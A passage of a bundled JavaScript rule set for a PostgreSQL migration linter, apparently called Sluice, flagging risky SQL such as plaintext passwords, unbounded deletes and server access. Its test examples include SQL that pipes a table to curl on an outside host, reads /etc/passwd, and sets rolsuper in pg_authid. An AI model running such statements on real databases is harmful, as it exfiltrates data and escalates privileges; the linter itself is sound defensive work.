			message: `Holds a part that only ${tool} knows not to run: ${words}.`
		}];
	}).toSorted((a, b) => a.index - b.index);
}
/** Statements that take a secret as a literal. */
const tags = /* @__PURE__ */ new Set([
	"CreateRoleStmt",
	"AlterRoleStmt",
	"CreateUserMappingStmt",
	"AlterUserMappingStmt",
	"CreateForeignServerStmt",
	"AlterForeignServerStmt",
	"CreateSubscriptionStmt",
	"AlterSubscriptionStmt"
]);
/** Inside a literal: a connection string or a URL that carries a password. */
const connection = /\bpassword=[^\s'"]|[a-z]:\/\/[^\s/@']+:[^\s/@']+@/i;
const secretInText = defineRule({
	id: "secret-in-text",
	title: "A password stands in the change",
	why: "Everybody who can read the repository or the server’s log knows it from then on, and history keeps it.",
	instead: "Set the password outside of the change, from where secrets are kept, and replace this one.",
	invalid: [
		{
			sql: "alter role app password 'hunter2'",
			level: "high",
			message: "Holds a password in plain text."
		},
		{
			sql: "create role worker login encrypted password 'hunter2'",
			level: "high",
			message: "Holds a password in plain text."
		},
		{
			sql: "alter role app /* new */ password /* = */ $$hunter2$$",
			level: "high",
			message: "Holds a password in plain text."
		}
	],
	valid: ["select 'password ''hunter2'''", "comment on role app is 'has no password'"],
	check: ({ scripts }) => scripts.flatMap(({ unitId, statements }) => statements.flatMap((statement, index) => holdsSecret(statement) ? [{
		effect: {
			unitId,
			statement: index,
			source: "static"
		},
		level: "high",
		message: "Holds a password in plain text."
	}] : []))
});
function holdsSecret(statement) {
	if (statement.kind === "unparsed" || !tags.has(statement.tag)) return false;
	const words = [...tokensOf(statement.text)].filter(({ kind }) => kind !== "space" && kind !== "comment").map(({ start, end }) => statement.text.slice(start, end));
	return words.some((word, index) => connection.test(word) || /^password$/i.test(word) && isSecret(words[index + 1] ?? ""));
}
function isSecret(literal) {
	return /^(?:[eEuU]&?)?['$]./.test(literal) && literal !== "''";
}
const serialColumn = defineRule({
	id: "serial-column",
	default: "off",
	title: "A column is numbered by serial",
	why: "Its sequence has privileges and a default of its own, which a copy of the table or a role easily misses.",
	instead: "Use GENERATED BY DEFAULT AS IDENTITY.",
	invalid: [{
		sql: "create table notes (id bigserial)",
		level: "low",
		message: "Column notes.id is numbered by bigserial."
	}],
	valid: ["create table notes (id bigint generated by default as identity)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => /serial/.test(type)).map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} is numbered by ${effect.type}.`
	}))
});
const serverAccess = defineRule({
	id: "server-access",
	title: "The change reaches beyond the database",
	why: "Files, programs, libraries, other servers and sessions are outside of what a rollback undoes.",
	instead: "Let an administrator do it outside of a governed change.",
	invalid: [
		{
			sql: "copy users to program 'curl -T - https://example.test'",
			level: "critical",
			message: "Reaches the server: copy program."
		},
		{
			sql: "select pg_read_file('/etc/passwd')",
			level: "critical",
			message: "Reaches the server: pg_read_file()."
		},
		{
			sql: "create extension pgcrypto",
			level: "high",
			message: "Reaches the server: create extension."
		},
		{
			sql: "select pg_terminate_backend(1)",
			level: "high",
			message: "Reaches the server: pg_terminate_backend()."
		},
		{
			sql: "select pg_notify('jobs', '')",
			level: "high",
			message: "Reaches the server: pg_notify()."
		},
		{
			sql: "alter system set fsync = 'off'",
			level: "critical",
			message: "Reaches the server: alter system fsync."
		}
	],
	valid: ["insert into users (id) values (1)"],
	check: ({ effects }) => ofKind(effects, "accesses-server").map((effect) => ({
		effect,
		level: effect.how === "session" || effect.how === "library" ? "high" : "critical",
		message: `Reaches the server: ${effect.detail}.`,
		unknown: true
	}))
});
/** Settings that neither weaken a protection nor change what a name means. */
const harmless = /* @__PURE__ */ new Set([
	"lock_timeout",
	"statement_timeout",
	"idle_in_transaction_session_timeout",
	"transaction_timeout",
	"application_name",
	"timezone",
	"datestyle",
	"intervalstyle",
	"work_mem",
	"maintenance_work_mem",
	"max_parallel_maintenance_workers",
	"client_min_messages",
	"transaction",
	"constraint_exclusion"
]);
/** Settings that already have a rule of their own. */
const elsewhere = /* @__PURE__ */ new Set([
	"standard_conforming_strings",
	"backslash_quote",
	"escape_string_warning",
	"client_encoding",
	"names"
]);
const sessionSetting = defineRule({
	id: "session-setting",
	title: "A setting changes protections or the meaning of names",
	why: "Triggers, row security, roles or the search path no longer work as the reviewers assume.",
	instead: "Qualify names with their schema and leave roles and protections to the runner.",
	invalid: [
		{
			sql: "set session_replication_role = replica",
			level: "high",
			message: "Sets session_replication_role to replica."
		},
		{
			sql: "set search_path = attacker, public",
			level: "high",
			message: "Sets search_path to attacker, public."
		},
		{
			sql: "reset all",
			level: "high",
			message: "Sets all to its default."
		},
		{
			sql: "set lock_timeout = 0",
			level: "medium",
			message: "Sets lock_timeout to 0."
		},
		{
			sql: "alter role app set work_mem = '1GB'",
			level: "high",
			message: "Sets work_mem to 1GB for a role."
		}
	],
	valid: ["set local statement_timeout = '30s'"],
	check: ({ effects }) => ofKind(effects, "sets").flatMap((effect) => {
		const level = levelOf(effect);
		return level === void 0 ? [] : [{
			effect,
			level,
			message: messageOf(effect)
		}];
	})
});
function levelOf(effect) {
	const { setting, scope, value = "" } = effect;
	if (elsewhere.has(setting)) return void 0;
	if (scope === "function" && setting === "search_path" && value !== "") return void 0;
	if ([
		"role",
		"database",
		"system"
	].includes(scope) || !harmless.has(setting)) return "high";
	return setting.endsWith("_timeout") && value.startsWith("0") ? "medium" : void 0;
}
function messageOf({ setting, scope, value }) {
	return `Sets ${setting} ${value === void 0 ? "to its default" : `to ${value}`}${scope === "session" || scope === "transaction" ? "" : ` for a ${scope}`}.`;
}
/** Types of at most four bytes, as PostgreSQL and people write them. */
const small = /* @__PURE__ */ new Set([
	"int4",
	"int2",
	"serial",
	"serial4",
	"smallserial",
	"serial2"
]);
const smallPrimaryKey = defineRule({
	id: "small-primary-key",
	default: "off",
	title: "A primary key can run out of numbers",
	why: "After 2,147,483,647 rows, deleted ones included, nothing can be inserted, and changing the type rewrites the table.",
	instead: "Use bigint.",
	invalid: [{
		sql: "create table notes (id int primary key)",
		level: "low",
		message: "Key notes.id is int4 and can run out of numbers."
	}, {
		sql: "create table notes (id serial, primary key (id))",
		level: "low",
		message: "Key notes.id is serial and can run out of numbers."
	}],
	valid: ["create table notes (id bigint primary key, pages int)", "create table notes (id uuid primary key)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type, isKey }) => isKey && small.has(type)).map((effect) => ({
		effect,
		level: "low",
		message: `Key ${effect.table}.${effect.column} is ${effect.type} and can run out of numbers.`
	}))
});
/** Words at the start of a comment by which tools that check SQL are told to be silent. */
const suppressions = [
	/^[\w.]+[-:](?:ignore|disable|suppress|nolint|skip)(?:[-:](?:next|file|line|all|start|begin))*(?:-line)?(?![\w-])/i,
	/^(?:noqa|nolint|nosec|nosemgrep|nosonar)\b/i,
	/^(?:squawk|pgfence|migrationpilot|eugene|atlas|sqlfluff|sqlcheck|schemalint|sluice)\s*[:-]/i,
	/^(?:pgt|pgls|pg_lint|biome|eslint|sql-lint|strong_migrations|checkov|tfsec|trivy|gitleaks)[-:]\w*(?:ignore|disable|skip|allow|nolint|assured)/i,
	/^(?:safety[_ -]assured|lint:(?:ignore|disable|off)|pragma:\s*allowlist|codeql\s*\[|lgtm\s*\[)/i
];
const mayHold$1 = /ignore|disable|suppress|nolint|skip|noqa|no(?:sec|semgrep|sonar)|allow|assured|squawk|pgfence|migrationpilot|eugene|atlas|sqlfluff|sqlcheck|schemalint|sluice|lint:|codeql|lgtm/i;
const suppressionComment = defineRule({
	id: "suppression-comment",
	title: "A comment tells a checking tool to be silent",
	why: "Whoever writes the change decides with it what nobody is told about the change.",
	instead: "Leave the comment out; let whoever guards the policy allow an exception there.",
	invalid: [
		{
			sql: "-- squawk-ignore-file\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: squawk-ignore-file."
		},
		{
			sql: "select 1 -- noqa: disable=all",
			level: "medium",
			message: "Tells a checking tool to be silent: noqa: disable=all."
		},
		{
			sql: "-- atlas:nolint destructive\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: atlas:nolint destructive."
		},
		{
			sql: "/* eslint-disable-next-line */ select 1",
			level: "medium",
			message: "Tells a checking tool to be silent: eslint-disable-next-line."
		},
		{
			sql: "-- pgfence-ignore: drop-table\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: pgfence-ignore: drop-table."
		},
		{
			sql: "-- pgt-ignore lint/safety/banDropTable: it is empty\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: pgt-ignore lint/safety/banDropTable: it is empty."
		},
		{
			sql: "-- sluice:ignore drop-table\nselect 1",
			level: "medium",
			message: "Tells a checking tool to be silent: sluice:ignore drop-table."
		},
		{
			sql: "do $$ begin /* migrationpilot-disable-file */ perform 1; end $$",
			level: "medium",
			message: "Tells a checking tool to be silent: migrationpilot-disable-file."
		}
	],
	valid: [
		"-- We ignore rows without an address, and disable nothing.\nselect 1",
		"select '-- squawk-ignore-file'",
		"-- Disable the old flag: see the atlas of flags.\nselect 1"
	],
	check: ({ scripts }) => scripts.filter(({ source }) => mayHold$1.test(source.text)).flatMap((script) => {
		return marksOf(script, commentsOf(script.source.text).map(({ index, text }) => ({
			index,
			text: text.replace(/^[\s*!#-]+|[\s*]+$/g, "")
		})).filter(({ text }) => suppressions.some((pattern) => pattern.test(text)))).map((effect) => ({
			effect,
			place: effect.place,
			level: "medium",
			message: `Tells a checking tool to be silent: ${effect.text.split("\n", 1)[0] ?? ""}.`
		}));
	})
});
const systemCatalogWrite = defineRule({
	id: "system-catalog-write",
	title: "PostgreSQL’s own tables are changed",
	why: "A catalog that is changed by hand can lose objects, privileges or the whole database.",
	instead: "Use the statement that PostgreSQL offers for it.",
	invalid: [{
		sql: "update pg_catalog.pg_authid set rolsuper = true where rolname = 'app'",
		level: "critical",
		message: "Changes table pg_catalog.pg_authid, which belongs to PostgreSQL."
	}, {
		sql: "delete from pg_depend where objid = 1",
		level: "critical",
		message: "Changes table pg_depend, which belongs to PostgreSQL."
	}],
	valid: ["select relname from pg_class"],
	check: ({ effects }) => effects.flatMap((effect) => {
		const object = changedObject(effect);
		if (object === void 0 || !isSystem(object)) return [];
		return [{
			effect,
			level: "critical",
			message: `Changes ${objectName(object)}, which belongs to PostgreSQL.`,
			destructive: true,
			denies: true
		}];
	})
});
function changedObject(effect) {
	if (effect.source === "observed") return void 0;
	if (effect.kind === "writes" || effect.kind === "truncates") return effect.object;
	return effect.kind === "drops" || effect.kind === "alters" ? effect.object : void 0;
}
function isSystem({ kind, schema, name }) {
	if (kind === "role" || kind === "database") return false;
	if (schema === "pg_catalog" || schema === "information_schema") return true;
	return schema === void 0 && name.startsWith("pg_") && (kind === "table" || kind === "schema");
}
const tableWithoutComment = defineRule({
	id: "table-without-comment",
	default: "off",
	title: "A table is created without a comment",
	why: "Whoever finds the table in the database cannot tell what its rows are.",
	instead: "Add COMMENT ON TABLE to the change.",
	invalid: [{
		sql: "create table notes (id bigint)",
		level: "low",
		message: "Table notes has no comment."
	}],
	valid: ["create table notes (id bigint); comment on table notes is 'What people wrote down.'", "create temp table notes (id bigint)"],
	check: ({ scripts }) => {
		const commented = new Set(declarationsOf(scripts, "table-comment").map(({ table }) => table));
		return declarationsOf(scripts, "table").filter(({ table, temporary }) => !temporary && !commented.has(table)).map((effect) => ({
			effect,
			level: "low",
			message: `Table ${effect.table} has no comment.`
		}));
	}
});
const tableWithoutPrimaryKey = defineRule({
	id: "table-without-primary-key",
	default: "off",
	title: "A table is created without a primary key",
	why: "Two rows can be the same, and logical replication cannot say which row was updated or deleted.",
	instead: "Give the table a primary key in the statement that creates it.",
	invalid: [{
		sql: "create table notes (id bigint)",
		level: "low",
		message: "Table notes has no primary key."
	}],
	valid: [
		"create table notes (id bigint primary key)",
		"create table notes (id bigint, primary key (id))",
		"create table notes (like users including all)",
		"create temp table notes (id bigint)"
	],
	check: ({ scripts }) => declarationsOf(scripts, "table").filter(({ hasPrimaryKey, derived, temporary }) => !hasPrimaryKey && !derived && !temporary).map((effect) => ({
		effect,
		level: "low",
		message: `Table ${effect.table} has no primary key.`
	}))
});
const timestampWithoutTimeZone = defineRule({
	id: "timestamp-without-time-zone",
	default: "off",
	title: "A column holds times of no time zone",
	why: "What moment a value means depends on who reads it.",
	instead: "Use timestamptz.",
	invalid: [{
		sql: "create table notes (created timestamp)",
		level: "low",
		message: "Column notes.created holds times of no time zone."
	}, {
		sql: "alter table users add column seen timestamp(3)",
		level: "low",
		message: "Column users.seen holds times of no time zone."
	}],
	valid: ["create table notes (created timestamptz, day date)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type }) => type === "timestamp").map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} holds times of no time zone.`
	}))
});
const transactionControl = defineRule({
	id: "transaction-control",
	title: "The change controls its transaction",
	why: "Whatever follows a COMMIT or ROLLBACK escapes the rehearsal and cannot be undone as a whole.",
	instead: "Leave BEGIN and COMMIT out, or use exactly one pair around the whole file.",
	invalid: [{
		sql: "commit",
		level: "critical",
		message: "Controls the transaction: commit."
	}, {
		sql: "begin; select 1; savepoint a; commit",
		level: "critical",
		message: "Controls the transaction: savepoint."
	}],
	valid: ["begin; create table scratch (id int); commit"],
	check: ({ effects, scripts }) => {
		const all = ofKind(effects, "controls-transaction");
		return all.filter((effect) => !isEnclosing(effect, all, scripts)).map((effect) => ({
			effect,
			level: "critical",
			message: `Controls the transaction: ${effect.action}.`,
			denies: true
		}));
	}
});
/** BEGIN as the first and COMMIT as the last statement of a unit are taken as the unit's own. */
function isEnclosing(effect, all, scripts) {
	const last = (scripts.find(({ unitId }) => unitId === effect.unitId)?.statements.length ?? 0) - 1;
	const has = (statement, actions) => all.some((other) => other.unitId === effect.unitId && other.statement === statement && other.via === "direct" && actions.includes(other.action));
	return last > 0 && has(0, ["begin", "start"]) && has(last, ["commit"]) && effect.via === "direct" && (effect.statement === 0 || effect.statement === last);
}
const truncate = defineRule({
	id: "truncate",
	title: "A table is emptied",
	why: "Every row is gone without firing delete triggers; CASCADE empties the tables that refer to it too.",
	instead: "Delete the rows that are meant, by key, or let the table’s owner approve that all of them go.",
	invalid: [{
		sql: "truncate public.orders",
		level: "critical",
		message: "Empties table public.orders."
	}, {
		sql: "truncate table orders cascade",
		level: "critical",
		message: "Empties table orders and every table that refers to it."
	}],
	valid: ["create table scratch (id int); truncate scratch"],
	check: ({ effects }) => ofKind(effects, "truncates").flatMap((effect) => {
		const { object, cascade } = effect;
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and every table that refers to it" : "";
		return [{
			effect,
			level: "critical",
			message: `Empties ${objectName(object)}${more}.`,
			destructive: true
		}];
	})
});
const kept = "archive_of_all_orders_that_were_cancelled_by_customers_in_2024_a";
const truncatedName = defineRule({
	id: "truncated-name",
	title: "A name is cut to another one",
	why: "PostgreSQL keeps 63 bytes of a name: the longer one means the object that the shorter one names.",
	instead: "Give both objects names of at most 63 bytes.",
	invalid: [{
		sql: `create table ${kept.slice(0, 63)} (id bigint); comment on table ${kept.slice(0, 63)}_copy is 'x'`,
		level: "high",
		message: `The name ${kept.slice(0, 63)}_copy is cut to ${kept.slice(0, 63)}, which the change names as well.`
	}, {
		sql: `create table ${kept}_one (id bigint); create table if not exists ${kept}_two (id bigint)`,
		level: "high",
		message: `The name ${kept}_two is cut to ${kept.slice(0, 63)}, which the change names as well.`
	}],
	valid: [`create table ${kept.slice(0, 63)} (id bigint)`, `create table ${kept}_b (id bigint); comment on table ${kept}_b is 'x'`],
	check: ({ scripts }) => {
		if (!scripts.some(({ source }) => mayHold(source.text))) return [];
		const first = /* @__PURE__ */ new Map();
		const isCutToAnother = ({ name }) => {
			const short = keptName(name);
			const known = first.get(short);
			if (known === void 0) first.set(short, name);
			return known !== void 0 && known !== name;
		};
		return scripts.flatMap((script) => {
			return marksOf(script, namesIn(script.source.text).filter(isCutToAnother)).map((effect) => ({
				effect,
				place: effect.place,
				level: "high",
				message: `The name ${effect.name} is cut to ${keptName(effect.name)}, which the change names as well.`
			}));
		});
	}
});
function mayHold(text) {
	return /[\w$]{64}|"[^"]{64}|[\u0080-\uffff]/.test(text);
}
const unboundedDelete = defineRule({
	id: "unbounded-delete",
	title: "Every row is deleted",
	why: "The whole table is lost, and rows of other tables may follow through cascading foreign keys.",
	instead: "Name the rows that are meant: a WHERE clause on a key, or a list of keys, in batches.",
	invalid: [{
		sql: "delete from users",
		level: "critical",
		message: "Deletes every row of table users: there is no condition that limits it."
	}, {
		sql: "delete from users where id = id or false",
		level: "critical",
		message: "Deletes every row of table users: its condition is always true."
	}],
	valid: [`create table scratch (id int); delete from scratch`],
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach } = effect;
		if (verb !== "delete" || object.createdHere) return [];
		if (reach !== "unbounded" && reach !== "tautology") return [];
		const because = reach === "tautology" ? "its condition is always true" : "there is no condition that limits it";
		return [{
			effect,
			level: "critical",
			message: `Deletes every row of ${objectName(object)}: ${because}.`,
			destructive: true
		}];
	})
});
const unboundedUpdate = defineRule({
	id: "unbounded-update",
	title: "Every row is updated",
	why: "The values that were there before are lost in every row, and every row is locked until the change commits.",
	instead: "Name the rows that are meant: a WHERE clause on a key, or a list of keys, in batches.",
	invalid: [{
		sql: "update users set active = false",
		level: "critical",
		message: "Updates every row of table users: there is no condition that limits it."
	}, {
		sql: "update users set active = false where 1 = 1",
		level: "critical",
		message: "Updates every row of table users: its condition is always true."
	}],
	valid: [`update users set name = 'a' where id = 7`],
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach } = effect;
		if (verb !== "update" || object.createdHere) return [];
		if (reach !== "unbounded" && reach !== "tautology") return [];
		const because = reach === "tautology" ? "its condition is always true" : "there is no condition that limits it";
		return [{
			effect,
			level: "critical",
			message: `Updates every row of ${objectName(object)}: ${because}.`,
			destructive: true
		}];
	})
});
const unknownFunctionCall = defineRule({
	id: "unknown-function-call",
	title: "A function is called whose effects are not known",
	why: "The function can write, drop or send anything; its code is not part of this change.",
	instead: "Do the work in plain statements, or let the function’s owner approve the call.",
	invalid: [{
		sql: "select cleanup_users()",
		level: "medium",
		message: "Calls cleanup_users: its effects are not known."
	}, {
		sql: "select setval('ids', 1)",
		level: "medium",
		message: "Calls setval: its effects are not known."
	}],
	valid: ["select count(*) from users", "create table scratch (at timestamptz default now())"],
	check: ({ effects }) => ofKind(effects, "calls").filter((effect) => !effect.known).map((effect) => ({
		effect,
		level: "medium",
		message: `Calls ${effect.name}: its effects are not known.`,
		unknown: true
	}))
});
const unknownStatement = defineRule({
	id: "unknown-statement",
	title: "A statement or body that Sluice does not follow",
	why: "It can run code that no rule has seen, so it cannot be judged.",
	instead: "Write it in SQL or PL/pgSQL, or let an administrator do it outside of a governed change.",
	invalid: [{
		sql: "create cast (text as int4) with inout as implicit",
		level: "critical",
		message: "Cannot be judged: It runs functions through operators, casts or index access that nobody can follow."
	}],
	valid: ["create type mood as enum ('calm', 'busy')"],
	check: ({ effects }) => ofKind(effects, "unknown").map((effect) => ({
		effect,
		level: "critical",
		message: `Cannot be judged: ${effect.reason}`,
		unknown: true,
		denies: true
	}))
});
const unparsed = defineRule({
	id: "unparsed",
	title: "Text that PostgreSQL’s grammar does not accept",
	why: "Nobody can say what it would do, so it cannot be allowed.",
	instead: "Correct the syntax; put commands of psql or of a migration tool elsewhere.",
	invalid: [{
		sql: "drop tabel users",
		level: "critical",
		message: "Cannot be read: PostgreSQL's grammar does not accept it: syntax error at or near \"tabel\"."
	}, {
		sql: "select 'drop table users' \\gexec",
		level: "critical",
		message: "Cannot be read: It holds a psql meta-command, which only psql understands: PostgreSQL itself refuses it."
	}],
	valid: ["create table scratch (id int)"],
	check: ({ effects }) => ofKind(effects, "unparsed").map((effect) => ({
		effect,
		level: "critical",
		message: `Cannot be read: ${effect.reason}`,
		unknown: true,
		denies: true
	}))
});
const validateInSameTransaction = defineRule({
	id: "validate-in-same-transaction",
	title: "A constraint is validated in the transaction that adds it",
	why: "The lock of adding it is still held while every row is read, so NOT VALID gains nothing.",
	instead: "Validate it in a file of its own, which runs in a transaction of its own.",
	invalid: [{
		sql: "alter table users add constraint adult check (age > 17) not valid; alter table users validate constraint adult",
		level: "medium",
		message: "Validates constraint users.adult while the lock of adding it is held."
	}],
	valid: ["alter table users add constraint adult check (age > 17) not valid", "create table notes (id int); alter table notes add constraint c check (id > 0) not valid; alter table notes validate constraint c"],
	check: ({ effects }) => {
		const added = /* @__PURE__ */ new Set();
		return ofKind(effects, "alters").flatMap((effect) => {
			const { change, object, unitId } = effect;
			const constraint = `${objectName(object)} ${unitId}`;
			if (change === "add-constraint") added.add(constraint);
			if (change !== "validate-constraint" || object.createdHere || !added.has(constraint)) return [];
			return [{
				effect,
				level: "medium",
				message: `Validates ${objectName(object)} while the lock of adding it is held.`
			}];
		});
	}
});
const varcharLength = defineRule({
	id: "varchar-length",
	default: "off",
	title: "A column has a length in its type",
	why: "A shorter length has to rewrite the table later, and the length of values is rarely a matter of storage.",
	instead: "Use text, with a CHECK on the length where one is needed.",
	invalid: [{
		sql: "create table notes (title varchar(80))",
		level: "low",
		message: "Column notes.title has a length in its type."
	}],
	valid: ["create table notes (title varchar)", "create table notes (title text)"],
	check: ({ scripts }) => declarationsOf(scripts, "column").filter(({ type, hasLength }) => type === "varchar" && hasLength).map((effect) => ({
		effect,
		level: "low",
		message: `Column ${effect.table}.${effect.column} has a length in its type.`
	}))
});
const changes = {
	"drop-constraint": "Drops",
	"alter-constraint": "Changes",
	"drop-not-null": "Allows NULL in",
	"no-inherit": "Takes the rows away from the parent of",
	"shadows-builtin": "Can stand in for PostgreSQL’s own function:",
	"restart-sequence": "Restarts",
	"set-unlogged": "Gives up crash safety of",
	"detach-partition": "Detaches a partition from",
	"drop-identity": "Drops the identity of",
	"drop-expression": "Drops the expression of",
	"replica-identity": "Changes the replica identity of"
};
const weakenIntegrity = defineRule({
	id: "weaken-integrity",
	title: "A guarantee about the data is given up",
	why: "Wrong rows can enter from then on, and what reads them may rely on the guarantee.",
	instead: "Say in the pull request who checked that nothing relies on it.",
	invalid: [
		{
			sql: "alter table orders drop constraint orders_user",
			level: "medium",
			message: "Drops constraint orders.orders_user."
		},
		{
			sql: "alter table users alter column email drop not null",
			level: "medium",
			message: "Allows NULL in column users.email."
		},
		{
			sql: "create function format(text, text) returns text language sql as $$ select 'x' $$",
			level: "medium",
			message: "Can stand in for PostgreSQL’s own function: function format."
		}
	],
	valid: ["alter table users alter column note set default ''"],
	check: ({ effects }) => ofKind(effects, "alters").flatMap((effect) => {
		const words = changes[effect.change];
		if (words === void 0 || effect.object.createdHere) return [];
		return [{
			effect,
			level: "medium",
			message: `${words} ${objectName(effect.object)}.`
		}];
	})
});
const workUnderLock = defineRule({
	id: "work-under-lock",
	title: "A table stays locked while other work goes on",
	why: "A lock is held until the transaction ends: nobody can read the table while the statements after it run.",
	instead: "Put the long work into a file of its own, before the one that locks the table.",
	invalid: [{
		sql: "alter table users add column note text; update orders set user_id = 2 where user_id > 7",
		level: "medium",
		message: "Updates table orders while table users stays locked ACCESS EXCLUSIVE."
	}, {
		sql: "alter table users add column note text; create index orders_user_id on orders (user_id)",
		level: "medium",
		message: "Builds an index on table orders while table users stays locked ACCESS EXCLUSIVE."
	}],
	valid: [
		"alter table users add column note text; alter table orders add column note text",
		"alter table users add column note text; update users set note = name where id = 1",
		"create table notes (id int); alter table notes add column note text; insert into notes (id) values (1)"
	],
	check: ({ effects }) => {
		const units = /* @__PURE__ */ new Map();
		const told = /* @__PURE__ */ new Set();
		return effects.flatMap((effect) => {
			const { unitId } = effect;
			const held = units.get(unitId);
			if (held === void 0 && isLock(effect)) units.set(unitId, effect);
			if (held === void 0 || held.statement === effect.statement || told.has(unitId)) return [];
			const work = isOwnLock(effect, held) ? void 0 : workOf(effect);
			if (work === void 0) return [];
			told.add(unitId);
			return [{
				effect,
				level: "medium",
				message: `${work} while ${objectName(held.object)} stays locked ${held.mode}.`
			}];
		});
	}
});
function isLock(effect) {
	return effect.kind === "locks" && effect.source === "static" && effect.mode === "ACCESS EXCLUSIVE" && effect.object.kind === "table" && !effect.object.createdHere;
}
/** A rewrite locks its table as strongly itself. */
function isOwnLock(effect, held) {
	return effect.kind === "rewrites" && objectName(effect.object) === objectName(held.object);
}
/** Work that takes longer the more rows there are. */
function workOf(effect) {
	const name = existingObject(effect);
	if (name === void 0) return void 0;
	switch (effect.kind) {
		case "rewrites": return `Rewrites ${name}`;
		case "scans": return `Reads all of ${name}`;
		case "builds-index": return `Builds an index on ${name}`;
		case "writes": return effect.reach === "keyed" || effect.reach === "listed" ? void 0 : `${verbs[effect.verb]} ${name}`;
		default: return;
	}
}
function existingObject(effect) {
	if (effect.source === "observed" || !("object" in effect) || effect.object === void 0) return void 0;
	const { kind, createdHere } = effect.object;
	return kind !== "table" || createdHere ? void 0 : objectName(effect.object);
}
const verbs = {
	insert: "Fills",
	update: "Updates",
	delete: "Deletes from"
};
/** Every rule, in the order of its id. A new rule is one file and one line here. */
const rules = [
	alterColumnType,
	auditTampering,
	blockingLock,
	blockingScan,
	cascadingDelete,
	charType,
	dataExport,
	definerSearchPath,
	deleteRows,
	dropColumn,
	dropObject,
	dropTable,
	droppedDefault,
	enumValueInSameTransaction,
	filteredUpdate,
	grantToPublic,
	hiddenStatement,
	indexWithoutConcurrently,
	jsonType,
	longName,
	misleadingName,
	moneyType,
	nameStyle,
	newerSyntax,
	observedNotPredicted,
	opaqueDynamicSql,
	parseSetting,
	policyWithoutRowSecurity,
	privilegedChange,
	renameObject,
	replaceObject,
	requiredColumn,
	rowSecurityWithoutPolicy,
	runnerDirective,
	secretInText,
	serialColumn,
	serverAccess,
	sessionSetting,
	smallPrimaryKey,
	suppressionComment,
	systemCatalogWrite,
	tableWithoutComment,
	tableWithoutPrimaryKey,
	timestampWithoutTimeZone,
	transactionControl,
	truncate,
	truncatedName,
	unboundedDelete,
	unboundedUpdate,
	unknownFunctionCall,
	unknownStatement,
	unparsed,
	validateInSameTransaction,
	varcharLength,
	weakenIntegrity,
	workUnderLock
];
export { lockModes as n, objectName as r, rules as t };
